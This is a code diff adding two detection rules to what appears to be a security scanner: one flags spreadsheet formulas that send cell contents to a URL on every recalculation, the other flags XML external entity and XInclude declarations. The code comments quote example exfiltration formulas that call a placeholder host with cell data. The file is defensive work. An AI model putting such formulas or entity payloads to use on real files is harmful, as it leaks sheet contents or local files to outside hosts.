@@ -406,6 +406,33 @@ export const RULES: Rule[] = [
     reason: "Document field or formula that launches a program through DDE",
   },
   {
+    kind: "formula_injection",
+    // Functions the spreadsheet calls by itself on every recalculation (no click), with a URL built
+    // from cells: `=IMPORTXML(CONCAT("http://x/?",A1:A20),"//a")`, `=IMAGE("https://x/p?d="&B2)`.
+    // The sheet's contents leave for that host when it opens. A static URL, or HYPERLINK (a
+    // click), is not judged.
+    lead: /^[\s'"]{0,4}[=+@]/,
+    re:
+      /^[\s'"]{0,4}[=+@][^\n]{0,200}?\b(?:IMPORTXML|IMPORTDATA|IMPORTHTML|IMPORTFEED|IMAGE|WEBSERVICE)\s*\(\s*(?:(?:CONCAT(?:ENATE)?|TEXTJOIN|JOIN|ENCODEURL)\s*\([^\n]{0,300}?\b\$?[A-Z]{1,3}\$?\d{1,7}\b|"[a-z]{3,8}:\/\/[^"\n]{1,300}"\s*&\s*(?:[A-Z]+\s*\(\s*)?\$?[A-Z]{1,3}\$?\d{1,7}\b)/i,
+    severity: "high",
+    anywhere: true,
+    reason:
+      "Spreadsheet formula that sends cell contents to a URL each time the sheet recalculates",
+  },
+  {
+    kind: "xxe",
+    needles: ["<!ENTITY", "<!entity", "<!Entity", "XInclude", "xinclude"],
+    // An XML external entity: a DTD declares an entity (or a parameter entity, `<!ENTITY % d …>`)
+    // whose value is fetched from a URI — a local file read or an out-of-band request when the
+    // document is parsed. XInclude does the same from inside the document.
+    re:
+      /<!ENTITY\s+(?:%\s+)?[\w.:-]{1,60}\s+(?:SYSTEM|PUBLIC\s+["'][^"'\n]{0,200}["'])\s+["'][^"'\n]{1,500}["']|<[\w-]{1,20}:include\b[^>]{0,300}\bhref\s*=\s*["'](?:file:|\/|[a-z]{3,8}:\/\/)[^>]{0,300}(?:xmlns:[\w-]{1,20}\s*=\s*["']http:\/\/www\.w3\.org\/2001\/XInclude|parse\s*=\s*["']text)|xmlns:[\w-]{1,20}\s*=\s*["']http:\/\/www\.w3\.org\/2001\/XInclude["'][^\n]{0,300}?<[\w-]{1,20}:include\b[^>]{0,300}\bhref\s*=\s*["'](?:file:|\/)/i,
+    severity: "high",
+    anywhere: true,
+    reason:
+      "XML declares an external entity or XInclude (the parser reads a local file or calls a URL)",
+  },
+  {
     kind: "ruby_exec",
     needles: ["%x", "Kernel", "IO.popen", "Open3", "qx", "os.execute", "io.popen"],
     re:
